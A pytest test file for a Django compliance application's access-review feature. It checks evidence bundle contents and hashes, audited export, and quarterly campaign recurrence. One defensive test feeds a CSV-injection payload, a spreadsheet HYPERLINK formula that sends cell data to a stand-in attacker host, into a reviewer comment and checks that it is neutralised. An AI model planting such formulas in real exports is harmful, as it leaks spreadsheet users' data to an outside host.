"""The evidence bundle (contents, SHA-256 recomputed here, same bytes for the same data), its
audited export, and the quarterly recurrence (setting, idempotence, the command)."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import zipfile
from datetime import date, timedelta

import pytest
from django.core.management import call_command
from django.utils import timezone

from bureau.audit.models import AuditAction, AuditEvent
from bureau.compliance.access_evidence import evidence_bundle
from bureau.compliance.access_review_services import (
    AccessReviewError,
    add_months,
    decide,
    evidence_export,
    lock,
    next_due,
    open_campaign,
    open_due_campaigns,
)
from bureau.compliance.models.access_review import AccessDecision, AccessReview
from bureau.compliance.tests.access_review_cast import Acme
from bureau.compliance.tests.access_review_cast import acme as acme  # noqa: F401 (fixture)
from bureau.configuration.services import setting_set
from bureau.tenancy.actor import CapabilityDenied

FILES = ["changes.csv", "decisions.csv", "manifest.json", "review.json", "roster.csv"]


def _locked(acme: Acme) -> AccessReview:
    """A campaign of Alder: bob revoked by rita, the rest confirmed by carla, then locked."""
    carla = acme.actor("carla")
    review = open_campaign(
        actor=carla,
        title="Alder Q4",
        due_on=timezone.localdate() + timedelta(days=10),
        practices=[acme.a],
        reviewers={acme.a: acme.people["rita"]},
    )
    decide(
        actor=acme.actor("rita"),
        item=review.items.get(username="bob"),
        decision=AccessDecision.REVOKED,
        comment="moved to Birch, no Alder work",
    )
    for item in review.items.filter(decision=""):
        decide(actor=carla, item=item, decision=AccessDecision.CONFIRMED, comment="needed")
    return lock(carla, review)


def _rows(files: dict[str, bytes], name: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(files[name].decode())))


@pytest.mark.django_db
def test_the_bundle_holds_roster_decisions_changes_and_a_manifest(acme: Acme) -> None:
    review = _locked(acme)
    data = bytes(review.evidence)
    # The campaign's hash is the hash of the stored ZIP, recomputed here.
    assert review.evidence_sha256 == hashlib.sha256(data).hexdigest()
    with zipfile.ZipFile(io.BytesIO(data)) as bundle:
        assert sorted(bundle.namelist()) == FILES
        files = {name: bundle.read(name) for name in bundle.namelist()}

    roster = _rows(files, "roster.csv")
    assert sorted((r["username"], r["practice"], r["role"]) for r in roster) == [
        ("bob", "Alder Clinic", "biller"),
        ("carla", "All practices", "compliance_officer"),
        ("olive", "All practices", "owner"),
        ("rita", "Alder Clinic", "account_manager"),
    ]
    bob = next(r for r in roster if r["username"] == "bob")
    assert bob["providers"] == f"1003000126 {acme.ash}"
    assert bob["granted_by"] == "olive"
    assert bob["grant"] == str(acme.grants["bob"].public_id)

    decisions = {r["username"]: r for r in _rows(files, "decisions.csv")}
    assert decisions["bob"]["decision"] == "revoked"
    assert decisions["bob"]["comment"] == "moved to Birch, no Alder work"
    assert decisions["bob"]["decided_by"] == "rita"
    assert decisions["olive"]["decided_by"] == "carla"
    assert all(r["decided_at"] for r in decisions.values())

    changes = _rows(files, "changes.csv")
    assert [(c["username"], c["change"], c["decided_by"]) for c in changes] == [
        ("bob", "revoked", "rita")
    ]
    assert changes[0]["grant"] == str(acme.grants["bob"].public_id)

    document = json.loads(files["review.json"])
    assert document["scope"] == ["Alder Clinic"]
    assert document["reviewers"] == [{"practice": "Alder Clinic", "reviewer": "rita"}]
    assert (document["opened_by"], document["locked_by"]) == ("carla", "carla")
    assert document["status"] == "locked"

    # The manifest: each file's SHA-256 and size, and one hash over those lines.
    manifest = json.loads(files["manifest.json"])
    listed = {f["name"]: f for f in manifest["files"]}
    assert sorted(listed) == [n for n in FILES if n != "manifest.json"]
    for name, entry in listed.items():
        assert entry["sha256"] == hashlib.sha256(files[name]).hexdigest()
        assert entry["bytes"] == len(files[name])
    lines = "".join(f"{listed[n]['sha256']}  {n}\n" for n in sorted(listed))
    assert manifest["sha256"] == hashlib.sha256(lines.encode()).hexdigest()


@pytest.mark.django_db
def test_the_bundle_is_the_same_bytes_for_the_same_data(acme: Acme) -> None:
    review = _locked(acme)
    again = AccessReview.objects.get(pk=review.pk)
    assert evidence_bundle(again) == bytes(review.evidence)
    # A different comment is different evidence.
    item = again.items.get(username="olive")
    item.comment = "needed, owner"
    item.save(update_fields=["comment"])
    assert evidence_bundle(again) != bytes(review.evidence)


@pytest.mark.django_db
def test_the_export_is_audited_and_only_for_compliance(acme: Acme) -> None:
    carla = acme.actor("carla")
    review = open_campaign(
        actor=carla, title="Open one", due_on=timezone.localdate(), practices=[acme.b]
    )
    with pytest.raises(AccessReviewError, match="once the review is locked"):
        evidence_export(carla, review)
    review = _locked(acme)
    with pytest.raises(CapabilityDenied):
        evidence_export(acme.actor("rita"), review)
    data = evidence_export(acme.actor("olive"), review)
    assert data == bytes(review.evidence)
    event = AuditEvent.objects.get(action=AuditAction.ACCESS_REVIEW_EXPORTED)
    assert event.user_id == acme.people["olive"].pk
    assert event.detail == {"sha256": review.evidence_sha256}


# -- recurrence -----------------------------------------------------------------------------
def test_months_are_added_on_the_calendar() -> None:
    assert add_months(date(2026, 1, 15), 3) == date(2026, 4, 15)
    assert add_months(date(2026, 11, 30), 3) == date(2027, 2, 28)
    assert add_months(date(2027, 11, 30), 3) == date(2028, 2, 29)
    assert add_months(date(2026, 12, 31), 12) == date(2027, 12, 31)


@pytest.mark.django_db
def test_a_due_campaign_opens_once_then_again_after_the_interval(acme: Acme) -> None:
    today = timezone.localdate()
    first = open_due_campaigns(acme.workspace, today)
    assert first is not None and first.whole_workspace and first.created_by is None
    assert first.items.count() == 5
    assert first.due_on == today + timedelta(days=30)
    assert open_due_campaigns(acme.workspace, today) is None  # run twice: one campaign
    assert next_due(acme.workspace, today) == add_months(today, 3)
    almost = add_months(today, 3) - timedelta(days=1)
    assert open_due_campaigns(acme.workspace, almost) is None
    second = open_due_campaigns(acme.workspace, add_months(today, 3))
    assert second is not None
    assert AccessReview.objects.filter(workspace=acme.workspace).count() == 2
    opened = AuditEvent.objects.filter(
        action=AuditAction.ACCESS_REVIEW_OPENED, workspace=acme.workspace
    )
    assert opened.count() == 2 and opened.first().user_id is None  # type: ignore[union-attr]


@pytest.mark.django_db
def test_the_interval_is_a_workspace_setting_and_reviewers_carry_over(acme: Acme) -> None:
    today = timezone.localdate()
    olive = acme.actor("olive")
    setting_set(
        actor=olive,
        practice=None,
        key="compliance.access_review_every_months",
        value=0,
        reason="reviews run by hand this year",
    )
    assert next_due(acme.workspace, today) is None
    assert open_due_campaigns(acme.workspace, today) is None
    setting_set(
        actor=olive,
        practice=None,
        key="compliance.access_review_every_months",
        value=1,
        reason="monthly while we grow",
    )
    open_campaign(
        actor=acme.actor("carla"),
        title="By hand",
        due_on=today,
        reviewers={acme.a: acme.people["rita"], None: acme.people["olive"]},
    )
    assert open_due_campaigns(acme.workspace, today) is None
    scheduled = open_due_campaigns(acme.workspace, add_months(today, 1))
    assert scheduled is not None
    carried = {r.practice_id: r.user.username for r in scheduled.reviewers.select_related("user")}
    assert carried == {acme.a.pk: "rita", None: "olive"}


@pytest.mark.django_db
def test_the_command_opens_the_due_campaign_once(acme: Acme) -> None:
    out = io.StringIO()
    call_command("access_reviews", "open-due", "--workspace", "acme-review", stdout=out)
    call_command("access_reviews", "open-due", "--workspace", "acme-review", stdout=out)
    first, second = (json.loads(line) for line in out.getvalue().splitlines())
    assert first["opened"] is not None and first["grants"] == 5
    assert second["opened"] is None
    assert AccessReview.objects.filter(workspace=acme.workspace).count() == 1


@pytest.mark.django_db
def test_a_comment_a_spreadsheet_would_run_is_written_as_text(acme: Acme) -> None:
    """The auditor opens decisions.csv in a spreadsheet: a reviewer's comment starting with
    `=`, `+`, `-` or `@` must not run there as a formula (CSV injection). It keeps its words,
    behind an apostrophe, as in every other export."""
    carla = acme.actor("carla")
    review = open_campaign(
        actor=carla,
        title="Alder Q4",
        due_on=timezone.localdate() + timedelta(days=10),
        practices=[acme.a],
        reviewers={acme.a: acme.people["rita"]},
    )
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"details")'
    decide(
        actor=acme.actor("rita"),
        item=review.items.get(username="bob"),
        decision=AccessDecision.REVOKED,
        comment=hostile,
    )
    for item in review.items.filter(decision=""):
        decide(actor=carla, item=item, decision=AccessDecision.CONFIRMED, comment="@SUM(1)")
    locked = lock(carla, review)
    with zipfile.ZipFile(io.BytesIO(bytes(locked.evidence))) as bundle:
        files = {name: bundle.read(name) for name in bundle.namelist()}
    comments = {r["username"]: r["comment"] for r in _rows(files, "decisions.csv")}
    assert comments["bob"] == "'" + hostile
    assert comments["olive"] == "'@SUM(1)"
    assert not any(c.startswith(("=", "+", "-", "@")) for c in comments.values())
    # The bundle stays reproducible and its hash is still the stored bytes' hash.
    assert evidence_bundle(AccessReview.objects.get(pk=locked.pk)) == bytes(locked.evidence)
    assert locked.evidence_sha256 == hashlib.sha256(bytes(locked.evidence)).hexdigest()
